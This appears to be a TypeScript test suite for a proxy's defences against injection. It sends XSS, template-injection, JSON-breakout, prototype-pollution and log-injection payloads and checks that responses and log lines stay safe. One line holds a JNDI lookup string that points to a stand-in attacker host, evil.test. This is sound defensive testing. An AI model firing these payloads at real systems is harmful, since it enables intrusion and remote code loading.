// Markup, JSON and lines for the log in what a client sends. Problem documents stay JSON, error pages have no tag of a stranger's,
// and a line of the log stays one line.
import { type Family, get, ok, type Try } from "../try.ts";

const XSS = "CWE-79, cross-site scripting";
const LOG = "CWE-117, log injection";
const HTML = "Accept: text/html\r\n";
const MARKUP = /<script|<img|onerror|javascript:/i;

const inPage = (name: string, source: string, sends: string, gets: number, more: Partial<Try> = {}): Try => ({
  name: `in a page for people: ${name}`,
  source,
  sends,
  gets: [gets],
  sees: /^content-type: text\/html; charset=utf-8\r$[\s\S]*^<!doctype html>/im,
  seesNot: MARKUP,
  origin: [],
  ...more,
});

const inDocument = (
  name: string,
  source: string,
  sends: string,
  gets: number,
  more: Partial<Try> = {},
): Try => ({
  name: `in a document for programs: ${name}`,
  source,
  sends,
  gets: [gets],
  sees: /^content-type: application\/problem\+json\r\n[\s\S]*^x-content-type-options: nosniff\r$[\s\S]*\r\n\r\n\{"type":"(?:about:blank|urn:headgate:[a-z-]+","title":"[a-z-]+)","status":\d+,"detail":"(?:[^"\\]|\\.)*","requestId":"[0-9a-f]{32}"\}\s*$/im,
  seesNot: MARKUP,
  origin: [],
  ...more,
});

/** It goes to the origin, and into the log as one line. */
const logged = (name: string, sends: string, origin: readonly string[] = ["GET /page"]): Try => ({
  name: `in the log: ${name}`,
  source: LOG,
  sends,
  gets: [200],
  origin,
});

export const injection: Family = {
  title: "injection",
  site: (url) => ({
    trustedProxies: ["127.0.0.1"],
    security: "strict",
    pools: { web: { origins: [{ id: "a", url }], retry: { attempts: 1 } } },
    routes: [
      { id: "closed", match: { path: "/closed/*" }, access: { allow: { ip: ["192.0.2.0/24"] } }, to: "web" },
      {
        id: "custom",
        match: { path: "/custom/*" },
        errors: { pages: { "4xx": { body: "<p>${status} ${reason} ${request.id}</p>" } } },
        methods: ["GET"],
        to: "web",
      },
      {
        id: "edited",
        match: { path: "/edited/*" },
        edits: { inject: { headEnd: "<meta name=x>" } },
        cache: "off",
        to: "web",
      },
      { id: "rest", cache: "off", to: "web" },
    ],
  }),
  tries: [
    inPage("a path", XSS, get("/closed/%3Cscript%3Ealert(1)%3C/script%3E", HTML), 403),
    inPage("a path of raw markup", XSS, get('/closed/"onerror="alert(1)', HTML), 403),
    inPage("a query", XSS, get("/closed/?x=%3Cscript%3E", HTML), 403),
    inPage(
      "a request id of a proxy",
      XSS,
      get("/closed/x", `${HTML}X-Request-Id: <script>alert(1)</script>\r\n`),
      403,
    ),
    inPage("a host of a proxy", XSS, get("/closed/x", `${HTML}X-Forwarded-Host: <script>.test\r\n`), 403),
    inPage(
      "a user agent and a referrer",
      XSS,
      get("/closed/x", `${HTML}User-Agent: <script>\r\nReferer: javascript:alert(1)\r\n`),
      403,
    ),
    inPage("a host that nobody serves", XSS, get("/", HTML, "img-src-x-onerror.test"), 404, {
      sees: /img-src-x-onerror\.test/,
      seesNot: /<img|<script/,
    }),
    inPage("a dangling quotation mark", XSS, get("/closed/'%22%3E%3Cimg%20src=x%3E", HTML), 403),
    inPage(
      "a template of a framework",
      "CWE-1336, template injection",
      get("/closed/{{7*7}}$%7B7*7%7D", HTML),
      403,
      { seesNot: /\{\{/ },
    ),
    {
      name: "in a page for people: nothing runs even if something got in",
      source: "CSP Level 3",
      sends: get("/closed/x", HTML),
      gets: [403],
      sees: /^content-security-policy: default-src 'none'; style-src 'sha256-[^']+'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'\r$/im,
      origin: [],
    },
    {
      name: "in a page of the site file: only what the edge knows is filled in",
      source: XSS,
      sends: get("/custom/%3Cscript%3E", `${HTML}X-Request-Id: <script>\r\n`).replace("GET", "DELETE"),
      gets: [405],
      sees: /<p>405 method-not-allowed [0-9a-f]{32}<\/p>/,
      seesNot: MARKUP,
      origin: [],
    },
    inDocument("a path", XSS, get("/closed/%3Cscript%3E"), 403),
    inDocument("a broken escape with a quotation mark in it", "CWE-74, JSON", get('/%"a'), 400),
    inPage("a broken escape, before any route is known", XSS, get('/%"&', HTML), 400),
    inDocument("a broken escape with a backslash in it", "CWE-74, JSON", get("/%\\a"), 400),
    inDocument("a method in lower case", "RFC 9110 §9.1", get("/").replace("GET", "TRACE"), 501),
    inDocument(
      "a request id of a proxy with a quotation mark",
      "CWE-74, JSON",
      get("/closed/x", 'X-Request-Id: a","x":"\r\n'),
      403,
    ),
    inDocument(
      "HTML that the client would rather not have",
      XSS,
      get("/closed/%3Cscript%3E", "Accept: text/html;q=0.1, application/json\r\n"),
      403,
    ),
    inDocument(
      "HTML with a weight of nothing",
      "RFC 9110 §12.4.2",
      get("/closed/x", "Accept: text/html;q=0\r\n"),
      403,
    ),
    inDocument(
      "HTML in a field of two kilobytes",
      "CWE-1333",
      get("/closed/x", `Accept: ${"text/html,".repeat(250)}\r\n`),
      403,
    ),
    inDocument("a host that nobody serves", XSS, get("/", "", "x.nobody.test"), 404),
    inDocument("the name of a script to call", "JSONP", get("/closed/x?callback=alert"), 403, {
      seesNot: /alert/,
    }),
    inDocument(
      "__proto__ as a parameter",
      "CWE-1321, prototype pollution",
      get("/closed/?__proto__[status]=200&constructor=1"),
      403,
    ),
    logged("a line break in a user agent, encoded", get("/page", "User-Agent: a%0d%0ainjected\r\n")),
    logged("a quotation mark and a brace in a user agent", get("/page", 'User-Agent: "},{"level":"x"\r\n')),
    logged("an escape of a terminal in a path", get("/page%C2%9B31m"), ["GET /page%C2%9B31m"]),
    logged("a lookup of a logging library", get("/page", "User-Agent: ${jndi:ldap://evil.test/a}\r\n")),
    logged("bytes that are not UTF-8 in a user agent", get("/page", "User-Agent: \xff\xfe\r\n")),
    logged("a referrer with a password in it", get("/page", "Referer: http://user:secret@a.test/x\r\n")),
    {
      name: "an origin's page with a broken head gets no snippet in a place of the origin's choice",
      source: XSS,
      sends: get("/edited/x"),
      gets: [200],
      sees: /<title><\/head><\/title><meta name=x><\/head>/,
      origin: ["GET /edited/x"],
      answers: ok(
        "Connection: close\r\nContent-Type: text/html\r\n",
        "<html><head><title></head></title></head><body></body></html>",
      ),
    },
  ],
};
